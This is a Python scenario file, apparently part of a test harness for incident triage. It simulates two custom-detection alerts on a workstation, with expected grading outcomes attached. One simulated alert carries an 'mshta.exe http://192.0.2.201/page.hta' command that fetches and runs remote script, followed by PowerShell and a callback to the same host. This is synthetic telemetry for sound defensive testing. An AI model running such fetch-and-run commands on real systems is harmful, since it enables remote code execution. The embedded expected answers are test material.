"""Two alerts of the customer's own detections on wks-eng-11, neither with evidence in the alerts API.

The first has only a device. The second's process is named in hunting's AlertEvidence table, in the
AdditionalFields of one row (T1218.005).
"""

from local.incidents.case import Case, Expectation, process_evidence
from local.incidents.programs import program
from local.incidents.stage import Stage, clock, later
from local.incidents.world import Process


def tell(stage: Stage) -> None:
    """Records what the detections were about and raises both alerts."""
    device = stage.estate.device("wks-eng-11")
    stage.raise_alert(
        Case(
            title="Custom: device outside maintenance window",
            description="A rule of our own: activity on an engineering device at an odd hour.",
            severity="Low",
            category="SuspiciousActivity",
            device=device,
            first=clock("07:18:00"),
            last=clock("07:18:00"),
            created=clock("07:20:07.3310218"),
            evidence=(),
            expected=Expectation(
                "DeviceOnly",
                "Unproven",
                "The alert names a device and nothing else.",
                scored_by="device",
                kind="benign",
            ),
            incident=1051,
            source="CustomDetection",
        )
    )
    _script_host(stage)


def _script_host(stage: Stage) -> None:
    record, born = stage.recorder, clock("08:24:50.4471903")
    explorer = stage.estate.resident("wks-eng-11", "explorer.exe")
    mshta = record.start(
        explorer,
        program("windows", "mshta.exe"),
        "mshta.exe http://192.0.2.201/page.hta",
        at=born,
        life=3 * 10**9,
    )
    record.network(mshta, later(born, 0.8), ip="192.0.2.201", port=80, url="http://192.0.2.201/page.hta")
    shell = record.start(
        mshta,
        program("windows", "powershell.exe"),
        'powershell.exe -c "Get-Process | Out-File $env:TEMP\\p.txt"',
        at=later(born, 2.3),
    )
    record.image_load(shell, later(born, 2.5), program("windows", "amsi.dll"))
    record.network(mshta, later(born, 200.4), ip="192.0.2.201", port=80)
    _alert_on_script_host(stage, mshta, born)


def _alert_on_script_host(stage: Stage, mshta: Process, born: int) -> None:
    stage.raise_alert(
        Case(
            title="Custom: script host from the internet",
            description="A rule of our own: mshta with an address.",
            severity="Medium",
            category="Execution",
            device=mshta.device,
            first=born,
            last=later(born, 2.4),
            created=clock("08:26:31.5520741"),
            evidence=(process_evidence(mshta, hunting_only=True),),
            expected=Expectation(
                "ExactProcess",
                "Confirmed",
                "The script host ran, and called its server again after the alert.",
                anchors=(mshta,),
            ),
            incident=1052,
            techniques=("T1218.005",),
            source="CustomDetection",
        )
    )
